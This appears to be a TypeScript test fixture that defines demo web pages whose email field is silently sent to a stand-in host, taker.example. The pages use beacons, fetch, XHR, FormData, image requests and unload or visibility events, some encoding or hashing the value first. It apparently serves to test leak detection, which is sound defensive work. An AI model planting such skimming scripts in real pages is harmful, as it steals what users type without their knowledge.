import { reply } from "../demo/respond.ts";
import type { Site } from "../demo/site.ts";

const page = (lang: string, script: string): Site["https"] => {
  const body = `<!doctype html><html lang="${lang}"><body><form><label>E-mail <input type="email" id="e"></label></form><script>const e=document.getElementById("e"),to="https://taker.example/";e.addEventListener("change",()=>{${script}})</script></body></html>`;
  return (_, response) => reply(response, { type: "text/html; charset=utf-8", body });
};

/** Pages that send what is typed in a body which is no text: a blob by beacon, by fetch and by XHR, and a form's parts; and such as send it as they are left. */
export const packedBodies: readonly Site[] = [
  {
    hosts: ["beacon.example"],
    https: page("en", 'navigator.sendBeacon(to,new Blob([JSON.stringify({v:e.value})],{type:"text/plain"}))'),
  },
  {
    hosts: ["fetch.example"],
    https: page(
      "cs",
      'crypto.subtle.digest("SHA-256",new TextEncoder().encode(e.value)).then((h)=>fetch(to,{method:"POST",mode:"no-cors",body:new Blob(["h="+[...new Uint8Array(h)].map((b)=>b.toString(16).padStart(2,"0")).join("")])}))',
    ),
  },
  {
    hosts: ["xhr.example"],
    https: page(
      "de",
      'const x=new XMLHttpRequest();x.open("POST",to);x.send(new Blob(["m="+btoa(e.value)]))',
    ),
  },
  {
    hosts: ["parts.example"],
    https: page("el", 'const f=new FormData();f.append("d",new Blob([e.value]));navigator.sendBeacon(to,f)'),
  },
  {
    hosts: ["leaving.example"],
    https: page(
      "fr",
      'addEventListener("pagehide",()=>navigator.sendBeacon(to,JSON.stringify({v:e.value})))',
    ),
  },
  {
    hosts: ["hiding.example"],
    https: page(
      "pl",
      'document.onvisibilitychange=()=>{if(document.hidden&&document.visibilityState==="hidden")fetch(to,{method:"POST",mode:"no-cors",keepalive:true,body:btoa(e.value)})}',
    ),
  },
  {
    hosts: ["unloading.example"],
    https: page("nl", 'onbeforeunload=()=>{new Image().src=to+"?v="+e.value}'),
  },
  {
    hosts: ["taker.example"],
    https: (_, response) => reply(response, { status: 204, headers: { "access-control-allow-origin": "*" } }),
  },
];
